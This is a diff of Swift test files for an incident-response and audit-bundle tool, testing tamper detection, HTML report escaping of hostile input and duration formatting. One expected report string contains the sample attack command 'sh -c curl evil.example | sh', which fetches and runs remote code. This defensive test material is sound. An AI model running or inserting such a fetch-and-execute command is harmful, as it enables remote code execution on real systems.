@@ -71,7 +71,7 @@ struct BundleTests {
         let fixture = try IncidentFixture()
         try fixture.journal.write(1, andLoose: 3)
         let bundle = try fixture.bundle(.time(since: IncidentFixture.start + .seconds(800), until: nil))
-        #expect(bundle.provedCount > 0 && bundle.provedCount == bundle.records.count - 4, "three, and the last checkpoint itself")
+        #expect(bundle.provedCount > 0 && bundle.provedCount == bundle.records.count - 3)
     }
 
     @Test(
@@ -80,7 +80,8 @@ struct BundleTests {
             ("records.jsonl", "process.suspend", "process.pretend", "its hash does not fit"), ("records.jsonl", "{\"seq\":8,", "{\"seq\":9,", "its hash does not fit"),
             ("records.jsonl", "{\"seq\"", "{\"sec\"", "this is no record"), ("checkpoints.jsonl", "\\nseq ", "\\nseq 1", "its hash does not fit"),
             ("proof.jsonl", "\"left\":\"", "\"left\":\"0", "this is no proof"), ("proof.jsonl", "\"seq\":8,", "\"seq\":16,", "is not among those"),
-            ("proof.jsonl", "{\"seq\":8,", "{\"seq\":7,", "is of no record here"), ("summary.json", "mia", "eve", "it was changed"), ("report.html", "mia", "eve", "it was changed"),
+            ("proof.jsonl", "{\"seq\":8,", "{\"seq\":7,", "is of no record here"), ("summary.json", "mia", "eve", "it was changed"),
+            ("report.html", "mia", "eve", "it was changed"),
             ("summary.json", "riposte-bundle-v1", "riposte-bundle-v0", "no summary"), ("summary.json", "\"riposte\":\"1.2.3\"", "\"riposte\":\"1.2.4\"", ""),
         ])
     func tampering(file: String, old: String, new: String, words: String) throws {
@@ -108,7 +109,10 @@ struct BundleTests {
         let forged = JournalLine.encode(SignedJournal.record("never was"), seq: last.seq + 1, prev: last.hash)
         let entry = try #require(JournalLine.decode(forged.line))
         try AuditBundle(header: bundle.header, records: bundle.records + [entry], checkpoints: bundle.checkpoints, proofs: bundle.proofs).write(to: path)
-        #expect(try fixture.verify(path).problems == ["1 of 11 records are not proved by a checkpoint: they were put in, or exported before a checkpoint signed them; then export again"])
+        #expect(
+            try fixture.verify(path).problems == [
+                "1 of 11 records are not proved by a checkpoint: they were put in, or exported before a checkpoint signed them; then export again"
+            ])
         // With the proof of another it fits that one's place only.
         var proofs = bundle.proofs
         proofs.append(.init(seq: entry.seq, checkpoint: proofs[0].checkpoint, path: proofs[0].path))
@@ -127,7 +131,8 @@ struct BundleTests {
                 var changed = whole
                 changed[place] ^= 1
                 try Data(changed).write(to: URL(fileURLWithPath: "\(path)/\(file)"))
-                #expect(try !fixture.verify(path).isIntact, "\(file), byte \(place)")
+                // As another version: what follows from the records is not made again each time.
+                #expect(try !fixture.verify(path, version: "9").isIntact, "\(file), byte \(place)")
             }
             try Data(whole).write(to: URL(fileURLWithPath: "\(path)/\(file)"))
         }
@@ -161,7 +166,10 @@ struct BundleTests {
         #expect(actions[1]["undo"]?["state"] == "in force" && actions[2]["class"] == "guarded")
         #expect(actions[0]["remarks"]?.array?.count == 2, "what guards and budget said")
         #expect(summary["persons"]?.array?.last?["name"] == "mia" && summary["persons"]?.array?.last?["reason"] == "known job of the web team")
-        #expect(summary["timeline"]?.array?.map { $0["kind"]?.string?.repaired ?? "" } == ["alert", "intent", "outcome", "intent", "outcome", "outcome", "other", "intent", "undo", "other"])
+        #expect(
+            summary["timeline"]?.array?.map { $0["kind"]?.string?.repaired ?? "" } == [
+                "alert", "intent", "outcome", "intent", "outcome", "outcome", "other", "intent", "undo", "other",
+            ])
         #expect(summary["journal"]?["proved"] == 10)
     }
 }
@@ -173,8 +181,9 @@ struct ReportTests {
         let fixture = try IncidentFixture()
         let page = ReportPage(try fixture.bundle()).html
         for words in [
-            "Run shell in web server", "Critical", "web-7", "process.suspend", "container web", "known job of the web team", "mia (uid 1001)", "taken back 2026-05-28", "in force, due back",
-            "class: guarded", "sshd is protected (guards.processes)", "riposte audit verify --bundle", "containerd-shim", "pid not told", "sh -c curl evil.example | sh", "+12.5 m",
+            "Run shell in web server", "Critical", "web-7", "process.suspend", "container web", "known job of the web team", "mia (uid 1001)", "taken back 2026-05-28",
+            "in force, due back",
+            "class: guarded", "sshd is protected (guards.processes)", "riposte audit verify --bundle", "containerd-shim", "pid not told", "sh -c curl evil.example | sh", "+13 m",
         ] { #expect(page.contains(words), "\(words)") }
     }
 
@@ -188,12 +197,14 @@ struct ReportTests {
         let hostile = JSON.text(value)
         let fixture = try IncidentFixture(
             with: [
-                "rule": hostile, "output": hostile, "message": hostile, "proc.name": hostile, "proc.cmdline": hostile, "proc.pname": hostile, "proc.aname[2]": hostile, "user.name": hostile,
+                "rule": hostile, "output": hostile, "message": hostile, "proc.name": hostile, "proc.cmdline": hostile, "proc.pname": hostile, "proc.aname[2]": hostile,
+                "user.name": hostile,
                 "container.name": hostile,
             ], playbook: value)
         let bundle = try fixture.bundle()
         let page = ReportPage(bundle).html
-        #expect(!page.contains("<script") && !page.contains("<img") && !page.contains("<!--") && !page.contains("\u{202E}") && !page.contains("\u{1B}") && !page.contains("\u{200B}"))
+        #expect(
+            !page.contains("<script") && !page.contains("<img") && !page.contains("<!--") && !page.contains("\u{202E}") && !page.contains("\u{1B}") && !page.contains("\u{200B}"))
         #expect(page.contains(value.escapedForHTML), "it is shown all the same")
         // Well-formed, as a strict reader sees it, with the very elements of a harmless report: nothing was opened, closed or broken.
         #expect(try Elements.count(in: page) == Elements.count(in: ReportPage(try IncidentFixture().bundle()).html))
@@ -203,12 +214,12 @@ struct ReportTests {
     @Test("bytes that are no UTF-8, and a command line of a megabyte, are cut and escaped; the records have them whole")
     func excess() throws {
         let long = ByteText(Array(repeating: UInt8(ascii: "x"), count: 1 << 20))
-        let fixture = try IncidentFixture(with: ["proc.cmdline": .string(long), "output": .string(ByteText([0x68, 0xFF, 0xFE, 0x69])), "proc.name": .string(ByteText([0xC3]))])
+        let fixture = try IncidentFixture(with: ["proc.cmdline": .string(long), "output": "h??i", "proc.name": "??"], raw: (Array("??".utf8), [0xFF, 0xC3]))
         let bundle = try fixture.bundle()
         let page = bundle.bytes(of: .report)
         #expect(page.count < 200_000)
         let text = try #require(String(validating: page, as: UTF8.self))
-        #expect(text.contains("h\\xff\\xfei") && text.contains("… (1048576 bytes)"))
+        #expect(text.contains("h\\xff\\xc3i") && text.contains("… (1048576 bytes)"))
         #expect(bundle.bytes(of: .records).count > 1 << 20)
     }
 
@@ -236,7 +247,9 @@ struct ReportTests {
 
     @Test(
         "durations are told in one unit",
-        arguments: [(0, "0 µs"), (420, "420 µs"), (1800, "1.8 ms"), (12_000, "12 ms"), (1_000_000, "1 s"), (754_000_000, "13 m"), (5_400_000_000, "1.5 h"), (172_800_000_000, "2 d")])
+        arguments: [
+            (0, "0 µs"), (420, "420 µs"), (1800, "1.8 ms"), (12_000, "12 ms"), (1_000_000, "1 s"), (754_000_000, "13 m"), (5_400_000_000, "1.5 h"), (172_800_000_000, "2 d"),
+        ])
     func durations(microseconds: Int, text: String) { #expect(Duration.microseconds(microseconds).brief == text) }
 
     @Test("later is further right, whatever the distance; the same moment is the same place")
